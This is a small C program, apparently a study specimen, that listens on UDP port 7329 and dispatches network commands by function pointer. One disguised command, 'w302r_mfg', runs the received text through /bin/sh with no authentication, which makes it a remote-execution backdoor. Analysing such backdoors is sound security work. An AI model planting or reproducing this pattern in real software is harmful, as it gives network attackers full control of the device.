/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Specimen, never run natively: commands from the network select a function by pointer; one runs a shell. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void do_ping(int fd, char *rest)
{
	(void)rest;
	send(fd, "pong", 4, 0);
}

static void do_run(int fd, char *rest)
{
	char line[128];
	snprintf(line, sizeof(line), "/bin/sh -c '%s'", rest);
	system(line);
	send(fd, "done", 4, 0);
}

static void do_version(int fd, char *rest)
{
	(void)rest;
	send(fd, "1.0", 3, 0);
}

struct command {
	const char *name;
	void (*run)(int fd, char *rest);
};

static const struct command commands[] = { { "ping", do_ping }, { "w302r_mfg", do_run }, { "version", do_version } };

static void serve(int fd)
{
	char in[256];
	int n = (int)recv(fd, in, sizeof(in) - 1, 0);
	if (n <= 0)
		return;
	in[n] = 0;
	for (unsigned i = 0; i < sizeof(commands) / sizeof(commands[0]); i++)
		if (strncmp(in, commands[i].name, strlen(commands[i].name)) == 0)
			commands[i].run(fd, in + strlen(commands[i].name));
}

int main(void)
{
	struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(7329) };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (bind(fd, (struct sockaddr *)&at, sizeof(at)) < 0)
		return 1;
	for (;;)
		serve(fd);
}
